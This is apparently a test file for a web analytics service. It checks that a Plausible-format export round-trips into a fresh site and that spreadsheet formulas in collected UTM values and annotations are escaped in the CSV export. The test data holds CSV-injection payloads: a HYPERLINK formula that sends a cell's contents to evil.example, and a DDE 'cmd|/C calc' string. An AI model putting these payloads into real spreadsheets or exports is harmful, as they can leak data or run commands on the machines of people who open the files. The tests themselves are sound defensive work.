// The export read back: a site with 90 days of varied traffic is exported in Plausible's format and
// the ZIP imported into a fresh site; every stats, daily timeseries and single-dimension breakdown
// of whole days (the pages' with their scroll depth) answers the same on both, on every engine. Collected values that a spreadsheet would
// run as formulas leave in the export's CSV files as text and come back exactly, over HTTP.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createWriteStream } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { ManualClock } from '../../src/core/clock.js';
import { addDays, startOfLocalDay } from '../../src/core/localtime.js';
import { type QueryKind, type RawParams } from '../../src/core/query.js';
import { DIMENSIONS } from '../../src/core/vocabulary.js';
import { metricsUnder } from '../../src/core/metric-registry.js';
import type { Site } from '../../src/entities/sites.js';
import { exportPlausible, siteHeldDays } from '../../src/imports/export.js';
import { importPlausible } from '../../src/imports/plausible-import.js';
import { csvRecords } from '../../src/imports/csv.js';
import { isZipFile, openZipEntry, readZipDirectory } from '../../src/imports/zip.js';
import { planRead, readSourceOf } from '../../src/stats/entry.js';
import { computeBreakdown } from '../../src/stats/read/breakdown.js';
import { computeStats } from '../../src/stats/read/stats.js';
import { computeTimeseries } from '../../src/stats/read/timeseries.js';
import { rollupKey } from '../../src/stats/rollups/key.js';
import { createRollupTables } from '../../src/stats/rollups/write.js';
import { rollupSite } from '../../src/stats/rollups/run.js';
import { openSqliteMetaStore } from '../../src/storage/meta/sqlite.js';
import { dataset } from '../../support/datasets.js';
import { EVENT_STORE_ADAPTERS } from '../helpers/event-stores.js';
import { finishedImport, uploadImport } from '../helpers/import-jobs.js';
import { BROWSER_UA, browserHeaders, createApiKey, createSite, startTestServer } from '../helpers/server.js';

const TZ = 'Europe/Paris';
const TODAY = '2026-03-20';
const NOW = startOfLocalDay(TODAY, TZ) + 12 * 3_600_000;
const FIRST = addDays(TODAY, -90);
const LAST = addDays(TODAY, -1);
const DAYS = Array.from({ length: 90 }, (_, i) => addDays(FIRST, i));

for (const adapter of EVENT_STORE_ADAPTERS) test(`an export imported into a fresh site answers the same: ${adapter.name}`, async () => {
  const events = await adapter.open();
  const meta = await openSqliteMetaStore(':memory:');
  const dir = await mkdtemp(join(tmpdir(), 'svc-round-trip-'));
  try {
    await createRollupTables(events);
    const org = await meta.createOrg('o', 0);
    const newSite = async (domain: string, id: string) => {
      const site = await meta.createSite(org.id, { domain, name: domain, timezone: TZ, retentionMonths: null, rawDays: 30, honorGpc: true }, id, 0);
      const goals = [
        await meta.createGoal(site.internalId, { name: 'pricing', kind: 'page', pattern: '/pricing' }, 0),
        await meta.createGoal(site.internalId, { name: 'docs', kind: 'page', pattern: '/docs/**' }, 0),
        await meta.createGoal(site.internalId, { name: 'signup', kind: 'event', pattern: 'signup' }, 0),
      ];
      return { site, goals };
    };
    const original = await newSite('original.test', 'origsite');
    const fresh = await newSite('fresh.test', 'freshsite');
    await events.append(dataset({ seed: 24, siteId: original.site.id, days: DAYS, dayStart: (d) => startOfLocalDay(d, TZ), sessionsPerDay: 45, visitorsPerDay: 30, timeZone: TZ }));
    await rollupSite({ events, meta }, original.site, NOW, {});
    const watermark = (await meta.getRollupState(rollupKey(events, original.site.id)))?.watermark ?? null;
    assert.equal(watermark, LAST);

    const zip = join(dir, 'export.zip');
    await pipeline(Readable.from(exportPlausible(events, { siteId: original.site.id, domain: 'original.test', days: { from: FIRST, to: LAST }, held: await siteHeldDays(events, original.site.id), watermark, annotations: [] })), createWriteStream(zip));
    assert.ok(await isZipFile(zip));
    const names = (await readZipDirectory(zip)).map((e) => e.name);
    assert.ok(names.includes(`imported_visitors_${FIRST.replaceAll('-', '')}_${LAST.replaceAll('-', '')}.csv`), names.join(' '));
    assert.equal(names.length, 13, "the tables, svc's dimensions, the annotations and README.txt");
    const report = await importPlausible(events, { siteId: fresh.site.id, importId: 'back' }, zip, 'export.zip');
    assert.deepEqual([report.skippedRows, report.skippedDays, report.days], [0, [], { from: FIRST, to: LAST }]);

    const planned = async (site: Site, kind: QueryKind, params: RawParams) => {
      return (await planRead(readSourceOf(events, meta), { kind, params: { comparison: 'off', ...params }, site, now: NOW })).q;
    };
    const periods: RawParams[] = [{ from: FIRST, to: LAST }, { from: addDays(FIRST, 17), to: addDays(FIRST, 47) }, { from: addDays(LAST, -6), to: LAST }, { from: addDays(LAST, -2), to: LAST }];
    let compared = 0;
    for (const period of periods) {
      const same = async (what: string, read: (site: Site, goals: typeof original.goals) => Promise<unknown>) => {
        assert.deepEqual(await read(fresh.site, fresh.goals), await read(original.site, original.goals), `${JSON.stringify(period)}: ${what}`);
        compared++;
      };
      await same('stats', async (site, goals) => computeStats(events, await planned(site, 'stats', period), goals));
      for (const metric of metricsUnder([])) {
        await same(`timeseries ${metric}`, async (site, goals) => (await computeTimeseries(events, await planned(site, 'timeseries', { ...period, metric, grain: 'day' }), goals)).points);
      }
      for (const dimension of DIMENSIONS) {
        // The pages' scroll depth leaves in the pages table's scroll_depth and pageleave_visitors.
        const include = dimension === 'page' ? { include: 'scrollDepth' } : {};
        await same(`breakdown ${dimension}`, async (site) => computeBreakdown(events, await planned(site, 'breakdown', { ...period, dimension, limit: '1000', ...include })));
      }
    }
    assert.equal(compared, periods.length * (1 + metricsUnder([]).length + DIMENSIONS.length));
    // The fresh site's answers come from imported aggregates; the original's from its rollups.
    assert.equal((await planned(fresh.site, 'stats', { from: FIRST, to: LAST })).plan.imported, 'included');
    assert.equal((await planned(original.site, 'stats', { from: FIRST, to: LAST })).plan.imported, 'none');
    const stats = await computeStats(events, await planned(fresh.site, 'stats', { from: FIRST, to: LAST }), fresh.goals);
    assert.ok((stats.visitors.value ?? 0) > 1000 && (stats.conversions.value ?? 0) > 0 && stats.bounceRate.value !== null);
    const pages = await computeBreakdown(events, await planned(fresh.site, 'breakdown', { from: FIRST, to: LAST, dimension: 'page', include: 'scrollDepth' }));
    assert.ok(pages.rows.length > 0 && pages.rows.every((r) => typeof r.scrollDepth === 'number'), 'every page has a scroll depth, from the imported sums');
  } finally {
    await events.close();
    await meta.close();
    await rm(dir, { recursive: true, force: true });
  }
});

test("formulas in collected values leave the export as text and come back exactly through svc's import", async () => {
  const day = '2026-03-10';
  const clock = new ManualClock(Date.parse(`${day}T10:00:00Z`));
  const server = await startTestServer({ clock, env: { SVC_API_RATE_LIMIT: '1000/60s' } });
  const dir = await mkdtemp(join(tmpdir(), 'svc-formulas-'));
  try {
    const site = await createSite(server);
    // Query texts as a page's address carries them: `=HYPERLINK("https://evil.example/?"&A1,"click")`,
    // `+SUM(1+1)`, a text that begins with `'` itself, and a negative number.
    const pages = [
      '/x?utm_source==HYPERLINK("https://evil.example/?"%26A1,"click")&utm_campaign=%2BSUM(1%2B1)',
      "/x?utm_source=%27%3D1&utm_medium=%27quoted&utm_campaign=-5",
      '/x?utm_source=%40cmd&utm_campaign=-2%2B3%2Bcmd|%27%20/C%20calc%27!A0',
    ];
    // A visitor each (a browser version each): a session takes its UTM values from its first page.
    for (const [i, page] of pages.entries()) {
      const headers = browserHeaders(site.domain, { 'user-agent': BROWSER_UA.replace('Chrome/124', `Chrome/${120 + i}`) });
      assert.equal(await server.collect({ s: site.siteId, u: `https://${site.domain}${page}` }, headers), 202);
    }
    await server.flush();
    clock.set(Date.parse('2026-03-12T12:00:00Z'));
    assert.equal((await server.admin('POST', '/maintenance/run', { tasks: ['rollup'] })).status, 200);

    const exported = await fetch(`${server.url}/admin/v1/sites/${site.siteId}/export`, { headers: { authorization: `Bearer ${server.adminToken}` } });
    assert.equal(exported.status, 200);
    const zip = new Uint8Array(await exported.arrayBuffer());
    const path = join(dir, 'export.zip');
    await pipeline(Readable.from([zip]), createWriteStream(path));
    // Every field of every file, as a spreadsheet reads it: none starts a formula (a negative number is no formula).
    const fields: string[] = [];
    for (const entry of await readZipDirectory(path)) {
      for await (const record of csvRecords(await openZipEntry(path, entry))) if ('fields' in record) fields.push(...record.fields);
    }
    const formulas = fields.filter((f) => /^[=+\-@\t\r\n]/.test(f) && !/^-\d+(?:\.\d+)?$/.test(f));
    assert.deepEqual(formulas, []);
    for (const neutralised of [`'=HYPERLINK("https://evil.example/?"&A1,"click")`, "'+SUM(1+1)", "''=1", "''quoted", "'@cmd", "'-2+3+cmd|' /C calc'!A0", '-5']) {
      assert.ok(fields.includes(neutralised), neutralised);
    }

    const copy = await createSite(server);
    const back = await uploadImport(server, copy.siteId, zip, 'source=plausible&name=svc-export.zip');
    const job = await finishedImport(server, copy.siteId, back.body.importId);
    assert.deepEqual([job.status, job.skippedRows], ['done', 0], job.error);
    const breakdown = async (fixture: { siteId: string; orgId: number }, dimension: string) => {
      const key = await createApiKey(server, fixture.orgId);
      const res = await fetch(`${server.url}/v1/sites/${fixture.siteId}/breakdown?from=${day}&to=${day}&dimension=${dimension}`, { headers: { authorization: `Bearer ${key}` } });
      return ((await res.json()) as { rows: Array<{ key: string; visitors: number }> }).rows;
    };
    for (const dimension of ['utm_source', 'utm_medium', 'utm_campaign', 'page']) {
      assert.deepEqual(await breakdown(copy, dimension), await breakdown(site, dimension), dimension);
    }
    const keys = (await breakdown(copy, 'utm_source')).map((r) => r.key).sort();
    assert.deepEqual(keys, ["'=1", '=HYPERLINK("https://evil.example/?"&A1,"click")', '@cmd']);
    const campaigns = (await breakdown(copy, 'utm_campaign')).map((r) => r.key).sort();
    assert.deepEqual(campaigns, ['+SUM(1+1)', "-2+3+cmd|' /C calc'!A0", '-5']);
  } finally {
    await server.stop();
    await rm(dir, { recursive: true, force: true });
  }
});

test("a site's annotations leave in svc's export, in a file of their own, and come back once through svc's import", async () => {
  const clock = new ManualClock(Date.parse('2026-03-12T12:00:00Z'));
  const server = await startTestServer({ clock });
  const dir = await mkdtemp(join(tmpdir(), 'svc-annotations-'));
  try {
    const site = await createSite(server);
    const notes = [
      ['2026-03-01', 'Launch, "v2"'],
      ['2025-06-30', '=HYPERLINK("https://evil.example")'],
      ['2026-03-11', 'Two\nlines'],
    ];
    for (const [date, text] of notes) assert.equal((await server.admin('POST', `/sites/${site.siteId}/annotations`, { date, text })).status, 201);
    const exported = await fetch(`${server.url}/admin/v1/sites/${site.siteId}/export?from=2026-03-01&to=2026-03-11`, { headers: { authorization: `Bearer ${server.adminToken}` } });
    assert.equal(exported.status, 200);
    const zip = new Uint8Array(await exported.arrayBuffer());
    const path = join(dir, 'export.zip');
    await pipeline(Readable.from([zip]), createWriteStream(path));
    const entry = (await readZipDirectory(path)).find((e) => e.name === 'svc_annotations.csv');
    assert.ok(entry, 'the annotations file');
    const records = [];
    for await (const record of csvRecords(await openZipEntry(path, entry))) if ('fields' in record) records.push(record.fields);
    assert.deepEqual(records[0], ['date', 'text']);
    assert.ok(records.some((fields) => fields[1] === `'=HYPERLINK("https://evil.example")`), 'a formula leaves as text');

    const copy = await createSite(server);
    const listed = async (siteId: string) => ((await server.admin('GET', `/sites/${siteId}/annotations`)).body.annotations as Array<{ date: string; text: string }>).map(({ date, text }) => ({ date, text }));
    await server.admin('POST', `/sites/${copy.siteId}/annotations`, { date: '2026-03-01', text: 'Launch, "v2"' });
    for (const round of [1, 2]) {
      const back = await uploadImport(server, copy.siteId, zip, 'source=plausible&name=svc-export.zip');
      const job = await finishedImport(server, copy.siteId, back.body.importId);
      assert.equal(job.status, 'done', job.error);
      // Every annotation, the days exported or not, each once: one the site held, and a second import, add none.
      assert.deepEqual(await listed(copy.siteId), await listed(site.siteId), `import ${round}`);
    }
  } finally {
    await server.stop();
    await rm(dir, { recursive: true, force: true });
  }
});
